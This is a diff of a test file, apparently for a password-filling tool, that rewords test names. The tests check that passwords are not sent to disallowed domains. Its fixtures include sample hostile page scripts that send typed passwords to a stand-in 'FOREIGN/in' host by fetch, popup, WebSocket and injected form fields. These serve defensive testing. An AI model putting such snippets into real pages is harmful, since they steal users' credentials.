@@ -100,7 +100,7 @@ describe("a password does not get to a domain that is not allowed", () => {
         script: `document.forms[0].insertAdjacentHTML("beforeend", "<input type=hidden name=action value=/in>");`,
       },
     ],
-  ])("by %s: nothing is filled", async ([, page], { browser, expect }) => {
+  ])("a password that a page would send by %s is not filled", async ([, page], { browser, expect }) => {
     await keepsPassword(page, /^the login form is sent to "127\.0\.0\.1", .*nothing was filled\..* allowed_domains$/, {
       browser,
       expect,
@@ -139,14 +139,14 @@ describe("a password does not get to a domain that is not allowed", () => {
     ["a popup", onSubmit(`event.preventDefault(); open("FOREIGN/in?p=" + encodeURIComponent(value()));`)],
     ["a worker", onSubmit(`event.preventDefault(); new Worker("/worker.js").postMessage(value());`)],
     ["a redirect of the own website", { form: `action="/moved"` }],
-  ])("by %s: the request is stopped", async ([, page], { browser, expect }) => {
+  ])("a password that a page sends by %s is stopped with its request", async ([, page], { browser, expect }) => {
     await keepsPassword(page, /^the page tried to send a value to "127\.0\.0\.1", .*the request was stopped/, {
       browser,
       expect,
     });
   });
 
-  test("by a script that sends while it is typed: not more than half of it", async ({ browser, expect }) => {
+  test("a script that sends a password while it is typed gets no more than half of it", async ({ browser, expect }) => {
     const script = `addEventListener("input", ({ target: { type, value } }) =>
   type === "password" && fetch("FOREIGN/in", { method: "POST", mode: "no-cors", body: value }));`;
     const message = /^the page tried to send a value to "127\.0\.0\.1", .*the request was stopped/;
@@ -155,7 +155,7 @@ describe("a password does not get to a domain that is not allowed", () => {
     expect(received.filter((line) => line.includes(half))).toEqual([]);
   });
 
-  test("by a WebSocket: the login fails and says that the value is known there", async ({ browser, expect }) => {
+  test("a WebSocket that sent a password fails the login, which says that the value is known there", async ({ browser, expect }) => {
     const page = onSubmit(
       `event.preventDefault(); new WebSocket("FOREIGN/in?p=".replace("http", "ws") + encodeURIComponent(value()));`,
     );
@@ -166,7 +166,7 @@ describe("a password does not get to a domain that is not allowed", () => {
   });
 });
 
-test("values reach the own website, and the origins of all of them are known, without the values", async ({
+test("values reach the connection's own website, and the origins of all of them are recorded, without the values", async ({
   browser,
   expect,
 }) => {
@@ -181,7 +181,7 @@ test("values reach the own website, and the origins of all of them are known, wi
   await expect(run).rejects.toThrow("an unexpected question");
 });
 
-test("origins that got values count as one beyond 50", async ({ browser, expect }) => {
+test("origins beyond 50 that got values count as one", async ({ browser, expect }) => {
   const { url, received } = await websites(
     onSubmit(`event.preventDefault();
       for (let i = 0; i < 60; i++) {
@@ -199,7 +199,7 @@ test("origins that got values count as one beyond 50", async ({ browser, expect 
   await expect(run).rejects.toThrow();
 });
 
-test("a login that began at an encrypted page does not go on over an unencrypted connection", async ({
+test("a login that began at an encrypted page does not continue over an unencrypted connection", async ({
   browser,
   expect,
 }) => {
